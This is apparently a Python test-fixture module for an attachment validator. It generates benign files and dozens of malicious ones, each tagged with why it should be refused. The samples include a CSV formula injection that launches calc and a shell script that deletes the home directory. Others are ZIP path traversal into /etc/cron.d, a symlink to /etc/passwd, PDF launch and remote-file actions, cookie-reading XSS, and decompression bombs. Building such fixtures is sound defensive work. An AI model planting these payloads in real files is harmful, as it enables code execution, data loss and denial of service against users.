"""Files that people attach, and those that attackers would: made here, named by what is wrong with them."""

import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterable
from typing import Any

import openpyxl
import pikepdf
from PIL import Image

DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# harmless ---------------------------------------------------------------------------------------------


def picture(format_: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "navy").save(file, format_)
    return file.getvalue()


def pdf(root: dict[str, Any] | None = None, page: dict[str, Any] | None = None, **saving: Any) -> bytes:
    """A PDF of one page, with more entries in its catalogue or its page."""
    with pikepdf.new() as document:
        document.add_blank_page()
        for where, entries in ((document.Root, root), (document.pages[0].obj, page)):
            for key, value in (entries or {}).items():
                where[key] = document.make_indirect(value)
        file = io.BytesIO()
        document.save(file, **saving)
    return file.getvalue()


def pdf_with_file(content: bytes, name: str = "inside.txt") -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)
        file = io.BytesIO()
        document.save(file)
    return file.getvalue()


def workbook() -> bytes:
    file = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Refusal rate"
    book.save(file)
    return file.getvalue()


def document(
    members: Iterable[tuple[str | zipfile.ZipInfo, bytes]] = (),
    content_type: str = DOCUMENT,
    relations: str = "",
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A DOCX with these members besides."""
    file = io.BytesIO()
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{content_type}"/></Types>'
    with zipfile.ZipFile(file, "w", compression) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr("_rels/.rels", f"<Relationships>{relations}</Relationships>")
        package.writestr("word/document.xml", "<document>Our tests of the model</document>")
        for name, content in members:
            package.writestr(name, content)
    return file.getvalue()


HARMLESS = {
    "report.pdf": pdf(),
    "screen.png": picture("PNG"),
    "photo.jpg": picture("JPEG"),
    "photo.jpeg": picture("JPEG"),
    "photo.webp": picture("WEBP"),
    "notes.docx": document(),
    "table.xlsx": workbook(),
    "table.csv": b"\xef\xbb\xbfmodel,refusals\nours,-0.5\ntheirs,+3e-2\n",
    "table.tsv": b"a\tb\n- see the notes\t@colleague\n",
    "values.json": json.dumps({"refusals": [0.1, 0.2]}).encode(),
    "runs.jsonl": b'{"run": 1}\n\n{"run": 2}\n',
    "settings.yaml": b"model: ours\n",
    "settings.yml": b"&a [*a, *a]\n",  # never expanded, because it is never read
    "notes.txt": "Straße, 東京\n".encode(),
    "notes.md": b"# Attacks\n\nThe first one was <script>alert(1)</script>.\n",
    "run.log": b"\x1b[31mfailed\x1b[0m\n",
}


# tricks -----------------------------------------------------------------------------------------------


def zipped(name: str = "inside.txt", content: bytes = b"x") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, content)
    return file.getvalue()


def bomb(megabytes: int) -> bytes:
    """Zeros: a thousandth of that, when deflated."""
    return bytes(megabytes * 1024 * 1024)


def liar(claimed: int = 10) -> bytes:
    """A DOCX whose member says it is small and is not."""
    data = bytearray(document([("word/media.bin", bomb(5))]))
    for header, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.rfind(header) if header == b"PK\x01\x02" else data.find(b"word/media.bin") - 30
        data[place + at : place + at + 4] = struct.pack("<I", claimed)
    return bytes(data)


def named(name: str, mode: int = 0) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo("placeholder")
    member.filename = name
    member.external_attr = mode << 16
    return member


def png_of(width: int, height: int) -> bytes:
    """A PNG of so many pixels, in a few kilobytes: one bit each, all alike."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + content))
        return struct.pack(">I", len(content)) + name + content + check

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    lines = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, with these objects from number 4 on."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    file, places = io.BytesIO(), []
    file.write(b"%PDF-1.7\n")
    for number, each in enumerate([b"<</Type/Catalog/Pages 2 0 R>>", pages, page, *objects], start=1):
        places.append(file.tell())
        file.write(b"%d 0 obj\n%b\nendobj\n" % (number, each))
    start = file.tell()
    file.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    file.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    file.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start))
    return file.getvalue()


def pdf_bomb(megabytes: int) -> bytes:
    """A PDF with a file inside that is small only as long as nobody expands it."""
    packed = zlib.compress(bomb(megabytes), 9)
    inside = b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed)
    return raw_pdf(b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>", inside)


def encrypted_pdf(password: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def action(**entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**entries)


NAME = pikepdf.Name
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
EXTERNAL, HYPERLINK = (
    f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="https://x" TargetMode="External"/>'
    for kind in ("attachedTemplate", "hyperlink")
)
ENTITIES = '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
LINK = named("word/link", stat.S_IFLNK | 0o777)

TRICKS: dict[str, tuple[str, bytes, str]] = {
    # what is wrong: the name it comes under, the content, the reason
    "nothing in it": ("report.pdf", b"", "empty"),
    "ZIP": ("files.zip", zipped(), "archive"),
    "SVG with a script": ("figure.svg", SVG, "active_kind"),
    "HTML": ("page.html", HTML, "active_kind"),
    "a program": ("report.pdf.exe", b"MZ", "active_kind"),
    "a macro document by its name": ("report.docm", document(), "macros"),
    "a kind that nobody knows": ("weights.safetensors", b"x", "unknown_kind"),
    "no ending": ("report", b"x", "unknown_kind"),
    "HTML named .pdf": ("report.pdf", HTML, "other_content"),
    "SVG named .png": ("figure.png", SVG, "other_content"),
    "SVG named .txt": ("figure.txt", SVG, "markup"),
    "SVG after a comment, named .md": ("figure.md", b"\n <!-- x -->" + SVG, "markup"),
    "HTML in small and large letters, named .csv": ("table.csv", b"\t\n<hTmL >", "markup"),
    "HTML behind a byte order mark": ("notes.txt", b"\xef\xbb\xbf" + HTML, "markup"),
    "a PNG named .jpg": ("photo.jpg", picture("PNG"), "other_content"),
    "a ZIP named .docx": ("notes.docx", zipped(), "other_content"),
    "a program named .docx": ("notes.docx", b"MZ" + bytes(500), "other_content"),
    "a GIF named .png": ("figure.png", picture("GIF"), "other_content"),
    "a PDF and a page at once": ("report.pdf", b"%PDF-1.7\n" + HTML + pdf(), "other_content"),
    "a PDF behind a page": ("report.pdf", HTML + pdf(), "other_content"),
    "a PDF and an archive at once": ("report.pdf", pdf() + zipped(), "other_content"),
    "a picture and an archive at once": ("photo.jpg", picture("JPEG") + zipped(), "other_content"),
    "a picture and a page at once": ("figure.png", picture()[:33] + HTML + picture()[33:], "other_content"),
    "UTF-16": ("notes.txt", "text".encode("utf-16"), "not_utf8"),
    "Latin-1": ("notes.txt", "Straße".encode("latin-1"), "not_utf8"),
    "NUL in a text": ("notes.txt", b"a\0b", "binary"),
    "a shell script named .txt": ("notes.txt", b"#!/bin/sh\nrm -rf ~\n", "script"),
    "a PDF named .txt": ("notes.txt", b"%PDF-1.4\nhello\n", "other_content"),
    "JSON that is none": ("values.json", b'{"a": }', "not_json"),
    "JSON a million deep": ("values.json", b"[" * 1_000_000, "not_json"),
    "a broken line of JSON": ("runs.jsonl", b'{"run": 1}\n{"run"\n', "not_json"),
    "a formula": ("table.csv", b'a,b\n1,"=HYPERLINK(""https://x"")"\n', "formula"),
    "a formula behind a semicolon": ("table.csv", b"a;b\n1;=1+1\n", "formula"),
    "a program behind a plus": ("table.csv", b"+1+cmd|' /C calc'!A0\n", "formula"),
    "a formula behind an at": ("table.tsv", b"x\t@SUM(1)\n", "formula"),
    "100 megapixels": ("figure.png", png_of(10_000, 10_000), "too_many_pixels"),
    "half a picture": ("figure.png", picture(size=(400, 400))[:-40], "damaged"),
    "half a photo": ("photo.jpg", picture("JPEG", (400, 400))[:500], "damaged"),
    "no PDF after its first bytes": ("report.pdf", b"%PDF-1.7\n" + b"x" * 500, "damaged"),
    "a PDF with a password": ("report.pdf", encrypted_pdf("secret"), "password"),
    "a PDF that only its owner may print": ("report.pdf", encrypted_pdf(""), "password"),
    "a PDF with a script": (
        "report.pdf",
        pdf({"/OpenAction": action(S=NAME.JavaScript, JS="app.alert(1)")}),
        "pdf_active",
    ),
    "a script whose name is spelled otherwise": (
        "report.pdf",
        raw_pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
        "pdf_active",
    ),
    "a PDF that starts a program": (
        "report.pdf",
        pdf(page={"/AA": action(O=action(S=NAME.Launch, F="calc.exe"))}),
        "pdf_active",
    ),
    "a PDF that opens a file elsewhere": (
        "report.pdf",
        pdf({"/OpenAction": action(S=NAME.GoToR, F="\\\\evil\\x.pdf", D=pikepdf.Array([0]))}),
        "pdf_active",
    ),
    "a link to a script in a PDF": (
        "report.pdf",
        raw_pdf(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI( JavaScript:alert\\(1\\))>>>>"),
        "pdf_active",
    ),
    "a PDF that sends a form": (
        "report.pdf",
        pdf({"/OpenAction": pikepdf.Array([action(S=NAME.SubmitForm, F="https://x")])}),
        "pdf_active",
    ),
    "a PDF with a form of another language": (
        "report.pdf",
        pdf({"/AcroForm": action(XFA=pikepdf.Array([]))}),
        "pdf_active",
    ),
    "a PDF with a film": ("report.pdf", raw_pdf(b"<</Type/Annot/Subtype/RichMedia>>"), "pdf_active"),
    "a program in a PDF": ("report.pdf", pdf_with_file(b"MZ\0\0", "setup.exe"), "pdf_files"),
    "a page in a PDF": ("report.pdf", pdf_with_file(HTML), "pdf_files"),
    "a bomb in a PDF": ("report.pdf", pdf_bomb(64), "pdf_files"),
    "too many things in a PDF": ("report.pdf", raw_pdf(*[b"1"] * 100_001), "too_demanding"),
    "a document with a password": ("notes.docx", OLE, "password"),
    "macros": ("notes.docx", document([("word/vbaProject.bin", b"x")]), "macros"),
    "macros by content type": (
        "notes.docx",
        document(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "a template from elsewhere": ("notes.docx", document(relations=EXTERNAL), "office_links"),
    "links to other workbooks": (
        "notes.docx",
        document([("xl/externalLinks/externalLink1.xml", b"x")]),
        "office_links",
    ),
    "another file inside": ("notes.docx", document([("word/embeddings/a.bin", b"x")]), "office_files"),
    "an archive inside": ("notes.docx", document([("word/media/a.png", zipped())]), "office_files"),
    "a program inside": ("notes.docx", document([("word/media/a.png", b"MZ\0\0")]), "office_files"),
    "an archive bomb": (
        "notes.docx",
        document([(f"word/{i}.xml", bomb(21)) for i in range(5)]),
        "too_much_inside",
    ),
    "a member that is larger than it says": ("notes.docx", liar(), "damaged"),
    "six thousand members": (
        "notes.docx",
        document([(f"word/{i}.xml", b"") for i in range(6_000)]),
        "too_much_inside",
    ),
    "a way out of the archive": ("notes.docx", document([("../../etc/cron.d/x", b"x")]), "damaged"),
    "an absolute path inside": ("notes.docx", document([("/etc/passwd", b"x")]), "damaged"),
    "a drive inside": ("notes.docx", document([(named("C:\\x"), b"x")]), "damaged"),
    "a name inside that ends early": ("notes.docx", document([(named("word/a\0.xml"), b"x")]), "damaged"),
    "two members of one name": (
        "notes.docx",
        document([("word/A.xml", b"x"), ("word/a.xml", b"x")]),
        "damaged",
    ),
    "a symbolic link": ("notes.docx", document([(LINK, b"/etc/passwd")]), "damaged"),
    "an unusual compression": ("notes.docx", document(compression=zipfile.ZIP_LZMA), "damaged"),
    "entities in XML": ("notes.docx", document([("word/_rels/a.rels", ENTITIES.encode())]), "damaged"),
    "a huge list of relations": (
        "notes.docx",
        document([("word/_rels/a.rels", b"<a>" + bomb(3))]),
        "too_much_inside",
    ),
}
